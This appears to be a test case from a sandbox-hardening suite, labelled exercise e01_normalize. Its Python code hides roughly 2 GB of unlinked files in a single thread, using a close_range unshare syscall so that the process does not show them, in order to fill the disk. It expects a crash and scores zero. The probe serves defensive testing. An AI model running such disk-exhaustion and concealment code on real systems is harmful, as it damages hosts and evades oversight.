# exercise: e01_normalize
# aim: fills the disk with nameless files that are open in one thread alone, where the process does not show them
# expect: crashed
# points: 0
# off: no
import ctypes
import os
import threading
import time

CLOSE_RANGE_UNSHARE = 2
refused = []


def fill():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(436, 1000, 1000, CLOSE_RANGE_UNSHARE) != 0:
        refused.append(OSError(ctypes.get_errno(), "close_range"))
        return
    for number in range(3):
        file = os.open(f"f{number}", os.O_RDWR | os.O_CREAT)
        os.unlink(f"f{number}")
        for _ in range(760):
            os.write(file, bytes(1 << 20))
    time.sleep(2)
    print("GOT THROUGH", flush=True)


thread = threading.Thread(target=fill)
thread.start()
thread.join()
raise refused[0]


def normalize(images):
    return images
